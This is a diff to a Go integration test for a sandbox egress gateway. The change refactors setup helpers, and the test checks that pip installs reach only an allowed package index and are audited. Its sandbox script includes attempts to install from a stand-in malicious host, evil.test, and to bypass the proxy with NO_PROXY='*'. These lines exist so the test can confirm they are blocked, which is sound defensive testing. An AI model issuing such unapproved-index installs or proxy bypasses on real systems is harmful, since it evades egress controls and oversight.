@@ -23,9 +23,9 @@ import (
 	"time"
 
 	mdns "github.com/miekg/dns"
-	"go.yaml.in/yaml/v3"
 
 	"github.com/sluice-gw/sluice/test/internal/casebook"
+	"github.com/sluice-gw/sluice/test/internal/gwenv"
 )
 
 // pipPython is Debian's python3 (package python3-pip for pip): the host's
@@ -133,45 +133,32 @@ func TestPipInSandboxThroughProxy(t *testing.T) {
 	}
 	buildSandboxBins(t)
 	for _, ip := range []string{egressIP, evilIndex} {
-		if out, err := exec.Command("ip", "-n", e.ns.name, "addr", "add", ip+"/32", "dev", "lo").CombinedOutput(); err != nil {
-			t.Fatalf("ip addr add %s: %v: %s", ip, err, out)
-		}
+		e.NS.AddAddr(t, ip+"/32")
 	}
-	cert, caPEM, _ := upstreamPKI(t, "pkg.test", "evil.test")
+	cert, caPEM, _ := gwenv.UpstreamPKI(t, "pkg.test", "evil.test")
 	idx := &packageIndex{wheel: tinyWheel(t)}
 	evil := &packageIndex{wheel: idx.wheel}
 	var pkgConns, evilConns atomic.Int64
 	var dnsMu sync.Mutex
 	dnsNames := map[string]int{}
-	var hl, tl, el, etl net.Listener
+	hl, tl := e.NS.Listen(t, egressIP+":80"), e.NS.Listen(t, egressIP+":443")
+	el, etl := e.NS.Listen(t, evilIndex+":80"), e.NS.Listen(t, evilIndex+":443")
 	var pc net.PacketConn
-	if err := e.ns.do(func() (err error) {
-		if hl, err = net.Listen("tcp", egressIP+":80"); err != nil {
-			return err
-		}
-		if tl, err = net.Listen("tcp", egressIP+":443"); err != nil {
-			return err
-		}
-		if el, err = net.Listen("tcp", evilIndex+":80"); err != nil {
-			return err
-		}
-		if etl, err = net.Listen("tcp", evilIndex+":443"); err != nil {
-			return err
-		}
+	if err := e.NS.Do(func() (err error) {
 		pc, err = net.ListenPacket("udp", "127.0.0.1:5353")
 		return err
 	}); err != nil {
-		t.Fatalf("listen in %s: %v", e.ns.name, err)
+		t.Fatalf("listen in %s: %v", e.NS.Name, err)
 	}
 	tlsCfg := &tls.Config{Certificates: []tls.Certificate{cert}}
 	servers := []*http.Server{
 		{Handler: idx, ReadHeaderTimeout: 5 * time.Second}, {Handler: idx, ReadHeaderTimeout: 5 * time.Second},
 		{Handler: evil, ReadHeaderTimeout: 5 * time.Second}, {Handler: evil, ReadHeaderTimeout: 5 * time.Second},
 	}
-	go func() { _ = servers[0].Serve(countingListener{hl, &pkgConns}) }()
-	go func() { _ = servers[1].Serve(tls.NewListener(countingListener{tl, &pkgConns}, tlsCfg)) }()
-	go func() { _ = servers[2].Serve(countingListener{el, &evilConns}) }()
-	go func() { _ = servers[3].Serve(tls.NewListener(countingListener{etl, &evilConns}, tlsCfg)) }()
+	go func() { _ = servers[0].Serve(gwenv.Counting(hl, &pkgConns)) }()
+	go func() { _ = servers[1].Serve(tls.NewListener(gwenv.Counting(tl, &pkgConns), tlsCfg)) }()
+	go func() { _ = servers[2].Serve(gwenv.Counting(el, &evilConns)) }()
+	go func() { _ = servers[3].Serve(tls.NewListener(gwenv.Counting(etl, &evilConns), tlsCfg)) }()
 	table := map[string]string{"pkg.test": egressIP, "evil.test": evilIndex}
 	ds := &mdns.Server{PacketConn: pc, Handler: mdns.HandlerFunc(func(rw mdns.ResponseWriter, q *mdns.Msg) {
 		name := strings.TrimSuffix(q.Question[0].Name, ".")
@@ -198,30 +185,12 @@ func TestPipInSandboxThroughProxy(t *testing.T) {
 		_ = ds.Shutdown()
 	})
 
-	admin := fmt.Sprintf("127.0.0.1:%d", 40000+time.Now().Nanosecond()%10000)
-	doc := map[string]any{
-		"gateway": map[string]any{
-			"sandbox_socket": filepath.Join(e.dir, "pip.sock"), "trusted_relay_uids": []int{0},
-			"admin_listen": admin, "upstream_timeout": "5s",
-		},
-		"store": "sqlite:" + filepath.Join(e.dir, "pip.db"),
-		"audit": map[string]any{"path": filepath.Join(e.dir, "pip-audit.log")},
-		"secrets": map[string]any{"backend": "local", "local": map[string]any{
-			"path": filepath.Join(e.dir, "secrets.json"), "key_file": filepath.Join(e.dir, "secrets.key")}},
-		"agents": []map[string]any{{"name": "agent-a", "connectors": []string{}, "egress": []string{"pkg.test"}}},
-		"egress": map[string]any{"max_tunnels_per_caller": 4},
-		"dns":    map[string]any{"upstreams": []string{"127.0.0.1:5353"}},
-	}
-	data, err := yaml.Marshal(doc)
-	if err != nil {
-		t.Fatal(err)
-	}
-	cfgPath := filepath.Join(e.dir, "pip.yaml")
-	if err := os.WriteFile(cfgPath, data, 0o600); err != nil {
-		t.Fatal(err)
-	}
-	g := e.startGateway(cfgPath, admin)
-	caFile := filepath.Join(e.dir, "upstream-ca.pem")
+	d := e.CoreConfig("pip")
+	d["agents"] = []map[string]any{{"name": "agent-a", "connectors": []string{}, "egress": []string{"pkg.test"}}}
+	d["egress"] = map[string]any{"max_tunnels_per_caller": 4}
+	d["dns"] = map[string]any{"upstreams": []string{"127.0.0.1:5353"}}
+	g := e.Start(d, e.Write(d))
+	caFile := filepath.Join(e.Dir, "upstream-ca.pem")
 	if err := os.WriteFile(caFile, caPEM, 0o644); err != nil {
 		t.Fatal(err)
 	}
@@ -245,7 +214,7 @@ func TestPipInSandboxThroughProxy(t *testing.T) {
 		`step denied-https ` + pip + ` -vv --index-url https://evil.test/simple/ --cert /workspace/ca.pem`,
 		`step direct env NO_PROXY='*' no_proxy='*' ` + pip + ` -vv --index-url http://pkg.test/simple/ --trusted-host pkg.test`,
 	}, "\n")
-	out := runInSandbox(t, g.sock, "pip", caFile, script, 240*time.Second)
+	out := runInSandbox(t, g.Sock, "pip", caFile, script, 240*time.Second)
 	for _, l := range strings.Split(out.String(), "\n") {
 		if strings.HasPrefix(l, "@@ ") {
 			t.Logf("inside the sandbox: %s", l)
@@ -324,7 +293,7 @@ func TestPipInSandboxThroughProxy(t *testing.T) {
 		lookups := dnsNames["evil.test"]
 		dnsMu.Unlock()
 		var refused []string
-		for _, r := range g.auditRecords() {
+		for _, r := range g.For(t).AuditRecords() {
 			f, _ := r["fields"].(map[string]any)
 			if f == nil || f["dest_host"] != "evil.test" || f["session"] != "pip" {
 				continue
@@ -355,7 +324,7 @@ func TestPipInSandboxThroughProxy(t *testing.T) {
 	})
 	t.Run("the proxied installs are audited", func(t *testing.T) {
 		allowed := map[string]int{}
-		for _, r := range g.auditRecords() {
+		for _, r := range g.For(t).AuditRecords() {
 			f, _ := r["fields"].(map[string]any)
 			if f == nil || f["dest_host"] != "pkg.test" || f["session"] != "pip" || f["agent"] != "agent-a" {
 				continue
